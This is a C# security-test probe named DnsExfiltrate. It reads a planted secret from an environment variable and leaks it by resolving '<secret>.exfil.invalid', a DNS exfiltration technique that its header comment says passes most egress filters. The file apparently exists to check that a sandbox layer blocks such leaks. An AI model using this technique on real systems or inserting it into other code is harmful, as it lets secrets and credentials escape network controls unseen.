// Attack: Leaks the planted secret through name resolution with Dns.GetHostEntry("<secret>.exfil.invalid"), which passes most egress filters.
// Expect: layer1
using PersonalApp.SecurityTests.Contracts;
namespace Attacks;

using System;
using System.Linq;
using System.Net;
using System.Net.Sockets;

public sealed class DnsExfiltrate : IProbe
{
    public string Run(ProbeInput input)
    {
        var secret = Environment.GetEnvironmentVariable("PERSONALAPP_PLANTED_SECRET") ?? input.Text;
        var label = new string(secret.Where(char.IsLetterOrDigit).Take(60).ToArray());
        try
        {
            return string.Join(",", Dns.GetHostEntry(label + ".exfil.invalid").AddressList.Select(a => a.ToString()));
        }
        catch (SocketException)
        {
            // The query already left the machine; the answer does not matter.
            return "queried " + label;
        }
    }
}
